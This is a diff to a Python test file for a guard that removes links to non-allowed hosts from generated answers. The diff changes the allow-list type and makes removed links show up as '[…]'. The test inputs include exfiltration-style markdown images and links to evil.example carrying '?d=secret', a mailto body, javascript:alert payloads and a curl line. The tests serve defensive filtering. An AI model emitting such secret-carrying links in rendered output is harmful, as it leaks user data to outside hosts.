@@ -11,7 +11,7 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from markdown_it.token import Token
 
-from gleaner.guards.answer_text import find_marked_ids, remove_foreign_links, split_marks
+from gleaner.guards.answer_text import AllowedLinks, find_marked_ids, remove_foreign_links, split_marks
 
 ALLOWED = "https://starlette.dev/release"
 NESTED = "https://wiki.example/Star_(object)"
@@ -45,23 +45,23 @@ def test_marks(answer: str, plain: str, ids: list[str]) -> None:
         (f"See {ALLOWED}.", f"See {ALLOWED}."),
         (f"See **{ALLOWED}** (<{ALLOWED}>)", f"See **{ALLOWED}** (<{ALLOWED}>)"),
         (f"See {ALLOWED}[kb-1]", f"See {ALLOWED} [kb-1]"),
-        (f"See {ALLOWED}?d=secret or {ALLOWED}/secret", "See  or "),
+        (f"See {ALLOWED}?d=secret or {ALLOWED}/secret", "See […] or […]"),
         ("![i](http://evil/x.png?d=1) text", "i text"),
         (f"![i]({ALLOWED}) text", "i text"),
         ("[l](http://evil.example/a) text", "l text"),
         ("[l](//evil.example/a) [m](mailto:a@evil.example?body=secret)", "l m"),
         ("<img src=http://evil/x> text <script>", " text "),
-        ("Go to http://evil.example/?q=secret, now.", "Go to , now."),
-        ("Go to www.evil.example/?q=secret or ftp://evil.example/x.", "Go to  or ."),
-        ("<https://evil.example/>", ""),
+        ("Go to http://evil.example/?q=secret, now.", "Go to […], now."),
+        ("Go to www.evil.example/?q=secret or ftp://evil.example/x.", "Go to […] or […]."),
+        ("<https://evil.example/>", "[…]"),
         ("[x](javascript:alert(1))", "x"),
         ("<javascript:alert(1)>", "‹javascript:alert(1)>"),
-        ("![a [b] c](//evil.example/x)", "! [a [b] c] ()"),
-        ("![a\\]b](//evil.example/x)", "! [a\\]b] ()"),
-        ("![x][r]\n\n[r]: //evil.example/?d=secret", "! [x][r]\n\n[r] : "),
+        ("![a [b] c](//evil.example/x)", "! [a [b] c] ([…])"),
+        ("![a\\]b](//evil.example/x)", "! [a\\]b] ([…])"),
+        ("![x][r]\n\n[r]: //evil.example/?d=secret", "! [x][r]\n\n[r] : […]"),
         ("[a]<img>(//evil.example/)", "a"),
         ('<b onmouseover="x">bold</b> and H<sub>2</sub>O', '‹b onmouseover="x">bold</b> and H<sub>2</sub>O'),
-        ("<img src=//evil.example/?d=secret", "‹img src="),
+        ("<img src=//evil.example/?d=secret", "‹img src=[…]"),
         ("`http://evil.example/` stays", "`http://evil.example/` stays"),
         ("```\ncurl http://evil.example/\n```", "```\ncurl http://evil.example/\n```"),
         ("1. Run\n   ```\n   curl http://a.example/\n   ```", "1. Run\n   ```\n   curl http://a.example/\n   ```"),
@@ -71,7 +71,7 @@ def test_marks(answer: str, plain: str, ids: list[str]) -> None:
     ],
 )
 def test_links(answer: str, cleaned: str) -> None:
-    assert remove_foreign_links(answer, {ALLOWED, NESTED}) == cleaned
+    assert remove_foreign_links(answer, AllowedLinks.of({ALLOWED, NESTED})) == cleaned
 
 
 @pytest.mark.parametrize(
@@ -92,7 +92,7 @@ def test_links(answer: str, cleaned: str) -> None:
 def test_images_are_removed_from_text_that_only_looks_like_code(no_code: str, image: str) -> None:
     answer = no_code.format(image)
     assert _find_active(answer), "the reader must see the image"
-    assert _find_active(remove_foreign_links(answer, ())) == []
+    assert _find_active(remove_foreign_links(answer, AllowedLinks.of(()))) == []
 
 
 _PIECES = (
@@ -137,9 +137,9 @@ _PIECES = (
 @settings(max_examples=600)
 @given(st.lists(st.sampled_from(_PIECES), max_size=30).map("".join))
 def test_a_markdown_reader_sees_only_links_to_sources(answer: str) -> None:
-    once = remove_foreign_links(answer, {ALLOWED})
+    once = remove_foreign_links(answer, AllowedLinks.of({ALLOWED}))
     assert _find_active(once) == []
-    assert remove_foreign_links(once, {ALLOWED}) == once
+    assert remove_foreign_links(once, AllowedLinks.of({ALLOWED})) == once
 
 
 def _find_active(markdown: str) -> list[str]:
